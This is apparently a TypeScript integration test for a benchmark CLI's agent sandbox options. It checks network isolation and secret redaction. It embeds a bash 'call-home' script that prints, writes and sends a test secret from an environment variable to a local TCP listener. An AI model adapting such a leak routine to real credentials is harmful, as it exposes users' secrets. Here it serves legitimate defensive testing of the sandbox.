/**
 * The agent-phase opt-ins through the real CLI on the IC fixture, in real `local` sandboxes:
 * a command agent (a script given with --agent-path) tries to reach a TCP server the test
 * runs on the host's 127.0.0.1 and to leak the value of a variable passed with --agent-env
 * (stdout, stderr, a file in its diff, the server). Without --agent-network the connection
 * fails; with `--agent-network host` it succeeds and the server receives the value. Either
 * way, the value appears in no file of the run directory.
 */
import { chmod, mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import net from 'node:net';
import path from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openRunStore } from '../src/store/run-store.ts';
import { IC_FIXTURE, REPO, tempDir } from './ic-helpers.ts';

const SECRET = 'sk-agent-env-7f3a9c1e5b2d';
const BIN = path.join(REPO, 'bin', 'swelancer.js');
const NODE = path.join(REPO, 'node_modules', '.bin', 'node');

let cwd: string;
let tools: string;
let server: net.Server;
let received: string[];

beforeAll(async () => {
  cwd = await tempDir('agent-net');
  received = [];
  server = net.createServer((socket) => {
    socket.on('data', (data) => {
      received.push(String(data));
      socket.end('ok\n');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as net.AddressInfo;
  tools = path.join(cwd, 'tools');
  await mkdir(tools, { mode: 0o755 });
  // Leaks the key every way it can, then calls the host's server with it.
  const script = `#!/bin/bash
echo "my key is $SWL_TEST_KEY"
echo "stderr key $SWL_TEST_KEY" >&2
printf '%s\\n' "$SWL_TEST_KEY" > leaked-key.txt
exec node -e "require('node:net').connect(${port}, '127.0.0.1')
  .on('connect', function () { this.write(process.env.SWL_TEST_KEY); })
  .on('data', () => process.exit(0))
  .on('error', (e) => { console.error('connect failed: ' + e.code + ' ' + process.env.SWL_TEST_KEY); process.exit(7); })"
`;
  await writeFile(path.join(tools, 'call-home'), script);
  await chmod(path.join(tools, 'call-home'), 0o755);
});
afterAll(async () => {
  server.close();
  await rm(cwd, { recursive: true, force: true });
});

function swelancer(args: string[], env: Record<string, string> = {}) {
  return execa(NODE, [BIN, ...args], {
    cwd,
    reject: false,
    timeout: 180_000,
    extendEnv: false,
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: process.env.HOME ?? '/root', ...env },
  });
}

const RUN = ['run', IC_FIXTURE, '--id', 'zero-amount-accepted', '--agent', 'command:call-home'];

async function filesUnder(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { withFileTypes: true, recursive: true });
  return entries.filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));
}

async function filesContaining(dir: string, needle: string): Promise<string[]> {
  const hits: string[] = [];
  for (const file of await filesUnder(dir)) {
    if ((await readFile(file)).includes(needle)) hits.push(path.relative(dir, file));
  }
  return hits;
}

function onlyResult(runDir: string) {
  const store = openRunStore(runDir, { readonly: true });
  try {
    const [result] = store.results();
    return { result, manifest: store.manifest() };
  } finally {
    store.close();
  }
}

describe('--agent-network and --agent-env', () => {
  it('none: the host loopback is unreachable; host: reachable; the key is never written', {
    timeout: 240_000,
  }, async () => {
    const common = [...RUN, '--agent-path', tools, '--agent-env', 'SWL_TEST_KEY'];
    const env = { SWL_TEST_KEY: SECRET };

    const offline = await swelancer([...common, '--run-dir', 'offline', '--json'], env);
    expect(offline.exitCode, offline.stderr).toBe(0);
    const off = onlyResult(path.join(cwd, 'offline'));
    expect(off.result).toMatchObject({ status: 'agent_error', costUsd: null });
    expect(off.result?.explanation).toMatch(/exited with 7: .*connect failed: ECONNREFUSED/);
    expect(received).toEqual([]);

    const online = await swelancer(
      [...common, '--agent-network', 'host', '--run-dir', 'online', '--json'],
      env,
    );
    expect(online.exitCode, online.stderr).toBe(0);
    const on = onlyResult(path.join(cwd, 'online'));
    // It reached the host and ran to the end; without a fix the hidden tests fail.
    expect(on.result).toMatchObject({ status: 'failed', earnedUsd: 0, costUsd: null });
    expect(received).toEqual([SECRET]);
    // The network is part of the experiment (a different key); the variable's value is not.
    expect(on.result?.key).not.toBe(off.result?.key);
    expect(on.manifest.plan).toMatchObject({
      agentNetwork: 'host',
      agentEnv: ['SWL_TEST_KEY'],
      agentPath: tools,
    });
    expect(on.manifest.command).toEqual(
      expect.arrayContaining(['--agent-network', 'host', '--agent-env', 'SWL_TEST_KEY']),
    );

    for (const dir of ['offline', 'online']) {
      const runDir = path.join(cwd, dir);
      expect(await filesContaining(runDir, SECRET)).toEqual([]);
      // What the agent printed and wrote is kept, with the value redacted.
      const output = await readFile(
        path.join(
          runDir,
          'artifacts',
          (dir === 'online' ? on : off).result?.key ?? '',
          'agent-output.txt',
        ),
        'utf8',
      );
      expect(output).toContain('my key is [redacted]');
      expect(output).toContain('stderr key [redacted]');
    }
    const diff = await readFile(
      path.join(cwd, 'online', 'artifacts', on.result?.key ?? '', 'agent.diff'),
      'utf8',
    );
    expect(diff).toContain('+[redacted]');
    expect(offline.stderr + online.stderr).not.toContain(SECRET);
  });

  it('bad opt-ins are refused before anything is created', { timeout: 60_000 }, async () => {
    const unset = await swelancer([...RUN, '--agent-env', 'SWL_NOT_SET', '--run-dir', 'bad1']);
    expect(unset.exitCode).toBe(2);
    expect(unset.stderr).toContain(
      '--agent-env SWL_NOT_SET: expected SWL_NOT_SET to be set in the environment of swelancer',
    );
    const path_ = await swelancer([...RUN, '--agent-env', 'PATH', '--run-dir', 'bad2']);
    expect(path_.exitCode).toBe(2);
    expect(path_.stderr).toContain('expected a variable other than PATH');
    const closed = path.join(cwd, 'closed');
    await mkdir(closed, { mode: 0o700 });
    const hidden = await swelancer([...RUN, '--agent-path', closed, '--run-dir', 'bad3']);
    expect(hidden.exitCode).toBe(2);
    expect(hidden.stderr).toMatch(
      /--agent-path .*closed: expected a folder others may read.*chmod o\+rx, found "mode 700"/,
    );
    const mode = await swelancer([...RUN, '--agent-network', 'bridge', '--run-dir', 'bad4']);
    expect(mode.exitCode).not.toBe(0);
    expect(mode.stderr).toContain('Allowed choices are none, host');
    for (const dir of ['bad1', 'bad2', 'bad3', 'bad4']) {
      await expect(readdir(path.join(cwd, dir))).rejects.toThrow(/ENOENT/);
    }
  });
});
